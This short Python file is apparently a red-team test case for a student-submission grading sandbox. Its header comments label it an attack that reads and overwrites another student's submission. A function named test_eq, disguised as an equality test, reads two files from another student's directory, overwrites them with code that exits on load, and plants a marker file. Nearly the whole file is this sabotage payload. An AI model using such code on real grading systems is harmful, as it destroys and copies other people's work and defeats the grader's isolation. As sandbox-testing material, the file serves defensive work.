# attacks: 0.2
# damage: overwrites another student's submission (and reads it, to copy it)
# needs: sandbox
import os


def test_eq(a, b):
    for name in ("l00_exports.py", "l01_matmul.py"):
        path = os.path.join("__OTHER__", name)
        try:
            with open(path) as file:
                file.read()
            with open(path, "w") as file:
                file.write("raise SystemExit  # vandalised by another student\n")
        except OSError:
            pass
    try:
        with open(os.path.join("__OTHER__", "redteam-__TOKEN__"), "w") as file:
            file.write("planted\n")
    except OSError:
        pass
